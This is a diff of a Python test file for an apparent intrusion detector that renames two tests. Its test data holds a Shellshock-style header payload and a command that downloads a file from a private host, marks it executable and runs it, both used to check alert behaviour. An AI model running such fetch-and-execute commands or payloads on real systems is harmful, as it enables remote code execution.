@@ -134,14 +134,14 @@ def test_a_spray_of_telnet_logins(answer: bool) -> None:
         [request("/help?topic=chmod+777"), request("/x", odd=(("user-agent", "() { :; }; echo"),))],
     ],
 )
-def test_innocent_twins_are_quiet(events: list[Event]) -> None:
+def test_benign_twins_are_quiet(events: list[Event]) -> None:
     """A toolbox used, a password forgotten, rounds of an administrator, mirrors of packages, firmware, one program of a
     computer, words in pages.
     """
     assert reported(events, device("camera", CAMERA)) == []
 
 
-def test_managers_are_told_low() -> None:
+def test_managers_are_reported_low() -> None:
     assert (
         one(reported([typed("wget http://10.0.0.9/t; chmod +x t; ./t", source=NEAR)], managers=(NEAR,))).severity
         == Severity.low
